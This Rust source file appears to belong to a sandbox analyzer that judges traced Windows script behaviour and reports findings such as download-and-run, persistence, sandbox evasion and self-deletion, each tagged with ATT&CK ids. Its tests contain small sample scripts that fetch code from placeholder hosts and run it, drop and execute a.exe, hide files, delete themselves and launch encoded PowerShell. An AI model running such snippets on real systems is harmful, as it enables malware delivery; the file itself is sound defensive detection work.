//! What a run says about a sample. Scripts of honest packages read files, start programs and talk to the network, too: what
//! alone is no sign is told as information.

use module_kit::{Finding, Findings, Severity, counted};
use script_host::files::GIVEN_PROGRAM;
use script_host::trace::{Code, Touched, Trace, cut};
use script_host::{Category, commands};

use crate::ending;

/// Calls that a finding quotes.
const MAX_QUOTES: usize = 8;

pub fn judge(trace: &Trace, findings: &mut Findings) {
    downloads_and_runs(trace, findings);
    processes(trace, findings);
    persistence(trace, findings);
    evasion(trace, findings);
    network(trace, findings);
    writes(trace, findings);
    code(trace, findings);
    fetched_code(trace, findings);
    ending::judge(trace, findings);
}

pub fn quoted(finding: Finding, touched: &[Touched]) -> Finding {
    finding.quotes(touched.iter().take(MAX_QUOTES).map(|it| format!("{}: {}", it.operation, it.target)))
}

/// Programs and scripts, by the ends of their names.
fn is_runnable(path: &str) -> bool {
    const ENDS: [&str; 22] = [
        ".exe", ".dll", ".scr", ".com", ".pif", ".cpl", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf",
        ".hta", ".lnk", ".msi", ".jar", ".ocx", ".sys", ".sct", ".xll",
    ];
    let lower = path.to_lowercase();
    ENDS.iter().any(|end| lower.ends_with(end))
}

/// A file that the script wrote and that a process runs: its path and its content. A report that is only shown is none.
fn runs_what_it_wrote(trace: &Trace) -> Option<&(String, Vec<u8>)> {
    // Windows takes both slashes, and scripts mix them.
    let commands: Vec<String> =
        trace.processes.iter().map(|process| process.target.to_lowercase().replace('/', "\\")).collect();
    trace.written().find(|(path, content)| {
        let lower = path.to_lowercase();
        let is_shown = commands::is_document(path) && !is_program(content);
        commands.iter().any(|command| command.contains(&lower) && (!is_shown || commands::runs_files(command)))
    })
}

/// It reached the network by itself, and not by a command of somebody else.
fn asked_network(trace: &Trace) -> bool {
    trace.network.iter().any(|it| it.operation != "in a command")
}

fn downloads_and_runs(trace: &Trace, findings: &mut Findings) {
    let Some((path, content)) = runs_what_it_wrote(trace) else { return };
    let is_fetched = asked_network(trace) && trace.answers.iter().any(|answer| content.starts_with(answer));
    let finding = if is_fetched {
        Finding::new("downloads-and-runs", Severity::Critical, 95, "The script downloads a file and runs it")
            .techniques(&["T1105", "T1204.002"])
    } else if asked_network(trace) {
        // What came may have been decoded, or is not what was written.
        let title = "The script uses the network, writes a file and runs it";
        Finding::new("downloads-and-runs", Severity::Critical, 75, title).techniques(&["T1105", "T1204.002"])
    } else {
        Finding::new("drops-and-runs", Severity::High, 90, "The script writes a file and runs it")
            .techniques(&["T1204.002"])
    };
    let source = trace.file_sources.get(&path.to_lowercase()).filter(|_| is_fetched);
    findings.add(quoted(finding.quote(path), &from(trace, trace.at_hand(source).iter())));
}

/// What was done with the addresses that something came from; with all, where it is not known of which it did.
fn from<'a>(trace: &Trace, sources: impl Iterator<Item = &'a String>) -> Vec<Touched> {
    let sources: Vec<String> = sources.map(|source| cut(source)).collect();
    let known: Vec<Touched> = trace.network.iter().filter(|it| sources.contains(&it.target)).cloned().collect();
    if known.is_empty() { trace.network.clone() } else { known }
}

/// What a command line says beyond the name of its program.
fn is_suspicious(techniques: &[&str]) -> bool {
    const TELLING: [&str; 14] = [
        "T1027.010",
        "T1564.003",
        "T1105",
        "T1562.001",
        "T1562.004",
        "T1490",
        "T1197",
        "T1140",
        "T1218.005",
        "T1218.010",
        "T1218.003",
        "T1218.004",
        "T1218.009",
        "T1127.001",
    ];
    techniques.iter().any(|technique| TELLING.contains(technique))
}

fn processes(trace: &Trace, findings: &mut Findings) {
    for process in &trace.processes {
        let techniques = commands::techniques(&process.target);
        let finding = match (techniques.is_empty(), is_suspicious(&techniques)) {
            (_, true) => Finding::new(
                "runs-suspicious-command",
                Severity::High,
                90,
                "The script starts a command that hides, fetches or weakens something",
            ),
            (false, _)
                if techniques.iter().any(|technique| technique.starts_with("T1059") || *technique == "T1218.011") =>
            {
                Finding::new("runs-interpreter", Severity::Low, 80, "The script starts an interpreter of commands")
            }
            _ => Finding::new("runs-program", Severity::Low, 80, "The script starts a program"),
        };
        findings.add(finding.techniques(&techniques).quote(&format!("{}: {}", process.operation, process.target)));
    }
}

fn persistence(trace: &Trace, findings: &mut Findings) {
    for it in &trace.persistence {
        let (id, title, technique) = match it.operation {
            "scheduled task" => ("persists-task", "The script makes a scheduled task", "T1053.005"),
            "service" => ("persists-service", "The script makes a service", "T1543.003"),
            "subscription to events of WMI" => ("persists-wmi", "The script subscribes to events of WMI", "T1546.003"),
            "changes macros of a document" => {
                ("changes-macros", "The script changes the macros of a document", "T1137.001")
            }
            _ => ("persists-autostart", "The script makes itself start with Windows", "T1547.001"),
        };
        findings.add(Finding::new(id, Severity::High, 90, title).techniques(&[technique]).quote(&it.target));
    }
}

fn evasion(trace: &Trace, findings: &mut Findings) {
    let of = |words: &[&str]| -> Vec<Touched> {
        trace.evasion.iter().filter(|it| words.iter().any(|word| it.operation.starts_with(word))).cloned().collect()
    };
    let machine = of(&[
        "asks which machine",
        "asks what the machine",
        "asks for an object of an analyst",
        "asks how large",
        "asks which documents",
    ]);
    if !machine.is_empty() {
        let sure = machine.iter().any(|it| commands::is_machine_check(&it.target)) || machine.len() >= 3;
        let severity = if sure { Severity::Medium } else { Severity::Low };
        findings.add(quoted(
            Finding::new(
                "checks-machine",
                severity,
                if sure { 85 } else { 60 },
                "The script asks what machine it is on, as those do that avoid sandboxes",
            )
            .techniques(&["T1497.001", "T1082"]),
            &machine,
        ));
    }
    type Group = (&'static str, &'static [&'static str], Severity, &'static str, &'static [&'static str]);
    let groups: [Group; 4] = [
        ("asks-identity", &["asks who"], Severity::Info, "The script asks who and where it is", &["T1033"]),
        ("asks-processes", &["asks which programs"], Severity::Low, "The script asks which programs run", &["T1057"]),
        (
            "asks-protection",
            &["asks which protection"],
            Severity::Medium,
            "The script asks which protection there is",
            &["T1518.001"],
        ),
        (
            "sleeps-long",
            &["sleeps", "waits by counting"],
            Severity::Low,
            "The script waits for long, as those do that outwait sandboxes",
            &["T1497.003"],
        ),
    ];
    for (id, words, severity, title, techniques) in groups {
        let found = of(words);
        if !found.is_empty() {
            findings.add(quoted(Finding::new(id, severity, 80, title).techniques(techniques), &found));
        }
    }
    hides(trace, findings);
    let evades = trace.calls.iter().filter(|call| call.category == Category::Evasion).count();
    if evades > 0 && !findings.has("checks-machine") {
        let quotes =
            trace.calls.iter().filter(|call| call.category == Category::Evasion).map(|call| call.args.join(", "));
        findings.add(
            Finding::new(
                "checks-machine",
                Severity::Medium,
                75,
                "The script asks what machine it is on, as those do that avoid sandboxes",
            )
            .techniques(&["T1497.001"])
            .quotes(quotes.take(MAX_QUOTES)),
        );
    }
}

/// Ways to hide, each with its own technique.
const WAYS_TO_HIDE: [(&str, &str); 3] =
    [("deletes itself", "T1070.004"), ("hides a file", "T1564.001"), ("runs what a style sheet holds", "T1220")];

fn hides(trace: &Trace, findings: &mut Findings) {
    let way = |it: &Touched| WAYS_TO_HIDE.iter().find(|(operation, _)| *operation == it.operation);
    let found: Vec<Touched> = trace.evasion.iter().filter(|it| way(it).is_some()).cloned().collect();
    if found.is_empty() {
        return;
    }
    let mut techniques: Vec<&str> = found.iter().filter_map(way).map(|(_, technique)| *technique).collect();
    techniques.sort_unstable();
    techniques.dedup();
    let finding = Finding::new("hides", Severity::Medium, 80, "The script hides what it did or how it runs");
    findings.add(quoted(finding.techniques(&techniques), &found));
}

fn network(trace: &Trace, findings: &mut Findings) {
    if asked_network(trace) {
        // A drive is no protocol of the web.
        let is_web = trace.network.iter().any(|it| !matches!(it.operation, "in a command" | "maps a drive"));
        let techniques: &[&str] = if is_web { &["T1071.001"] } else { &[] };
        let finding =
            Finding::new("uses-network", Severity::Low, 80, "The script uses the network").techniques(techniques);
        findings.add(quoted(finding, &trace.network));
    }
}

/// A program, and not what stands for those that every Windows has.
fn is_program(content: &[u8]) -> bool {
    content != GIVEN_PROGRAM && (content.starts_with(b"MZ") || content.starts_with(b"\x7fELF"))
}

fn writes(trace: &Trace, findings: &mut Findings) {
    let programs: Vec<&str> =
        trace.written().filter(|(_, content)| is_program(content)).map(|(path, _)| path.as_str()).collect();
    let copied: Vec<&str> =
        trace.written().filter(|(_, content)| content == GIVEN_PROGRAM).map(|(path, _)| path.as_str()).collect();
    if !copied.is_empty() {
        let title = "The script copies a program of Windows";
        findings
            .add(Finding::new("copies-program", Severity::Low, 80, title).techniques(&["T1036.003"]).quotes(copied));
    }
    if !programs.is_empty() {
        let title = "The script writes a program that it holds";
        findings
            .add(Finding::new("drops-program", Severity::High, 90, title).techniques(&["T1027.009"]).quotes(programs));
    }
    let scripts: Vec<&str> = trace.written().map(|(path, _)| path.as_str()).filter(|path| is_runnable(path)).collect();
    if !scripts.is_empty() && !findings.has("drops-program") {
        findings.add(
            Finding::new("writes-runnable", Severity::Low, 70, "The script writes a file that can be run")
                .quotes(scripts),
        );
    }
}

fn code(trace: &Trace, findings: &mut Findings) {
    if trace.code.is_empty() {
        return;
    }
    let mut by: Vec<&str> = trace.code.iter().map(|code| code.by).collect();
    by.dedup();
    let detail = format!("{}; each is a child.", counted(trace.code.len(), "text"));
    findings.add(
        Finding::new("runs-made-code", Severity::Info, 90, "The script runs code that it makes while it runs")
            .detail(detail)
            .techniques(&["T1027"])
            .quotes(by),
    );
}

/// Code that the network gave it, whether what came was the sandbox's own answer or one that was asked to be given.
fn fetched_code(trace: &Trace, findings: &mut Findings) {
    /// Characters that a code does not have by chance.
    const SHORTEST: usize = 16;
    let mark = script_host::settings::MARK.trim_ascii();
    let answers = trace.answers.iter().map(|answer| answer.trim_ascii());
    let answers = answers.map(|answer| if answer.starts_with(mark) { mark } else { answer });
    let answers: Vec<&str> = answers.filter_map(|answer| std::str::from_utf8(answer).ok()).collect();
    let is_fetched = |text: &str| {
        answers.iter().any(|answer| text.trim() == *answer || (answer.len() >= SHORTEST && text.contains(answer)))
    };
    // What is written into a page is for the most part no code.
    let code = trace.code.iter().filter(|code| code.by != "document.write" && is_fetched(&code.text));
    let code: Vec<&Code> = code.collect();
    let by: Vec<&str> = code.iter().map(|code| code.by).collect();
    if by.is_empty() || !asked_network(trace) {
        return;
    }
    let title = "The script runs code that it fetches from the network";
    let finding = Finding::new("runs-fetched-code", Severity::High, 90, title).techniques(&["T1105", "T1059"]);
    let sources = code.iter().map(|code| trace.at_hand(trace.code_sources.get(&code.text)));
    // One whose address is not known may have come from any.
    let all_known = sources.clone().all(|sources| !sources.is_empty());
    let sources = sources.flatten().filter(|_| all_known);
    findings.add(quoted(finding.quotes(by), &from(trace, sources)));
}

#[cfg(test)]
pub mod tests {
    use crate::options::Analyze;
    use crate::run;

    /// Ids of findings with their severities and techniques.
    pub fn found(script: &str, name: &str) -> Vec<String> {
        let outcome = run::scripts(script.as_bytes(), name, &Analyze::default(), None).expect("a script");
        let findings = outcome.findings.into_sorted().into_iter();
        findings.map(|it| format!("{} {:?} {}", it.id, it.severity, it.techniques.join(","))).collect()
    }

    #[test]
    fn what_a_logon_script_does_is_no_attack() {
        let script = r#"
            Set network = CreateObject("WScript.Network")
            Set files = CreateObject("Scripting.FileSystemObject")
            network.MapNetworkDrive "H:", "\\files\home\" & network.UserName
            Set log = files.CreateTextFile("C:\Users\Public\logon.txt", True)
            log.WriteLine "Drives for VirtualBox and VMware hosts"
            log.Close
            CreateObject("WScript.Shell").Run "notepad.exe C:\Users\Public\logon.txt"
        "#;
        let found = found(script, "logon.vbs");
        assert!(found.iter().all(|it| it.contains(" Low ") || it.contains(" Info ")), "{found:?}");
        assert!(found.contains(&"uses-network Low ".to_owned()), "{found:?}");
    }

    #[test]
    fn a_copied_program_is_not_one_that_the_script_holds() {
        let script = r#"new ActiveXObject("Scripting.FileSystemObject").CopyFile("C:\\Windows\\System32\\cmd.exe", "C:\\Users\\Public\\a.exe");"#;
        let found = found(script, "a.js");
        assert!(found.contains(&"copies-program Low T1036.003".to_owned()), "{found:?}");
        assert!(!found.iter().any(|it| it.starts_with("drops-program")), "{found:?}");
    }

    #[test]
    fn code_that_the_network_answered_is_told() {
        let ask = "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.open \"GET\", \"http://a.example/b\", False\nx.send\n";
        let ran = found(&format!("{ask}ExecuteGlobal x.responseText"), "a.vbs");
        assert!(ran.contains(&"runs-fetched-code High T1105,T1059".to_owned()), "{ran:?}");
        let kept = found(&format!("{ask}t = x.responseText\nExecute \"a = 1\""), "a.vbs");
        assert!(!kept.iter().any(|it| it.starts_with("runs-fetched-code")), "{kept:?}");
        let script =
            "var x = new XMLHttpRequest(); x.open('GET', 'http://a.example/b', false); x.send(); eval(x.responseText);";
        assert!(found(script, "a.js").contains(&"runs-fetched-code High T1105,T1059".to_owned()));
    }

    #[test]
    fn counting_until_there_are_no_steps_is_waiting() {
        let stall = "for(var i=0;i<30000000;i++){} new ActiveXObject('WScript.Shell').Run('powershell -enc AAAA');";
        let told = found(stall, "a.js");
        assert!(told.contains(&"sleeps-long Low T1497.003".to_owned()), "{told:?}");
        assert!(!found("for (;;) {}", "a.js").iter().any(|it| it.starts_with("sleeps-long")));
    }

    #[test]
    fn each_way_to_hide_has_its_technique() {
        let script = r#"
            var files = new ActiveXObject("Scripting.FileSystemObject");
            files.CreateTextFile("C:\\Users\\Public\\a.dat", true).Write("x");
            files.GetFile("C:\\Users\\Public\\a.dat").Attributes = 2;
        "#;
        let hidden = found(script, "a.js");
        assert!(hidden.contains(&"hides Medium T1564.001".to_owned()), "{hidden:?}");
        let gone = found(&format!("{script} files.DeleteFile(WScript.ScriptFullName);"), "a.js");
        assert!(gone.contains(&"hides Medium T1070.004,T1564.001".to_owned()), "{gone:?}");
    }

    #[test]
    fn what_is_fetched_and_what_is_only_written_are_told_apart() {
        let fetch =
            r#"var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://a.example/b", false); h.send();"#;
        let run = |content: &str| {
            format!(
                r#"{fetch} var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write({content});
                   s.SaveToFile("C:\\Users\\Public\\a.exe"); new ActiveXObject("WScript.Shell").Run("C:\\Users\\Public\\a.exe");"#
            )
        };
        let title = |script: &str| {
            let outcome = run::scripts(script.as_bytes(), "a.js", &Analyze::default(), None).expect("a script");
            let findings = outcome.findings.into_sorted();
            findings.into_iter().find(|it| it.id == "downloads-and-runs").map(|it| it.title.to_string())
        };
        let evidence = |script: &str, id: &str| {
            let outcome = run::scripts(script.as_bytes(), "a.js", &Analyze::default(), None).expect("a script");
            let found = outcome.findings.into_sorted().into_iter().find(|it| it.id == id).expect("a finding");
            let told = serde_json::to_string(&found).expect("JSON");
            ["a.example", "c.example"].map(|host| told.contains(host))
        };
        let more = "var o = new ActiveXObject('MSXML2.XMLHTTP'); o.open('GET', 'http://c.example/d', false); o.send();";
        assert_eq!(evidence(&format!("{more} {}", run("h.responseBody")), "downloads-and-runs"), [true, false]);
        assert_eq!(evidence(&format!("{fetch} {more} eval(h.responseText)"), "runs-fetched-code"), [true, false]);
        // Who reads an answer and asks another address before the first is written has the first one's.
        let read = format!("{fetch} var b = h.responseBody, t = h.responseText; {more}");
        let kept = run("b").replacen(fetch, &read, 1);
        assert_eq!(evidence(&kept, "downloads-and-runs"), [true, false]);
        assert_eq!(evidence(&format!("{read} eval(t)"), "runs-fetched-code"), [true, false]);
        // Where both were read, it may be either.
        let both = "var c = o.responseText;";
        assert_eq!(evidence(&kept.replacen(more, &format!("{more} {both}"), 1), "downloads-and-runs"), [true, true]);
        assert_eq!(evidence(&format!("{read} {both} eval(t)"), "runs-fetched-code"), [true, true]);
        assert_eq!(title(&run("h.responseBody")).as_deref(), Some("The script downloads a file and runs it"));
        let other = "The script uses the network, writes a file and runs it";
        assert_eq!(title(&run("'its own'")).as_deref(), Some(other));
    }
}
